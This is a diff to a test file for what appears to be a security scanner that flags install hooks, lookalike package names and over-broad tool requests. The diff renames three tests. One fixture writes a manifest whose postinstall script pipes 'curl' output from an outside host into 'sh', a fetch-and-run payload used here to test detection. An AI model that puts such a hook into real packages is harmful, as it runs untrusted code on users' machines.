@@ -24,7 +24,7 @@ def rules(result: ScanResult) -> dict[str, int | None]:
     return {finding.rule: finding.line for finding in result.findings}
 
 
-def test_a_hook_is_found_wherever_it_stands(tmp_path: Path) -> None:
+def test_a_hook_is_found_anywhere_in_the_settings(tmp_path: Path) -> None:
     lines = ["{", *[f'  "key{n}": {n},' for n in range(30)], '  "scripts": {']
     text = "\n".join(
         [*lines, '    "postinstall": "curl -s https://p.acme-npm.dev/i | sh"', "  }", "}"]
@@ -128,7 +128,7 @@ def test_an_ordinary_manifest_passes(tmp_path: Path, name: str, text: str) -> No
         ("./local", "npm", None),
     ],
 )
-def test_a_borrowed_name_is_told_from_a_name(
+def test_a_lookalike_name_is_distinguished_from_a_name(
     package: str, registry: str, popular: str | None
 ) -> None:
     assert looks_like(package, registry) == popular
@@ -148,7 +148,7 @@ def test_a_borrowed_name_is_told_from_a_name(
         ("Read Grep", set()),
     ],
 )
-def test_asking_for_more_than_is_needed_is_said_and_changes_nothing(
+def test_too_many_requested_tools_are_low_findings_only(
     tmp_path: Path, tools: str, found: set[str]
 ) -> None:
     (tmp_path / "SKILL.md").write_text(HEAD.format(head=f"allowed-tools: {tools}\n"))
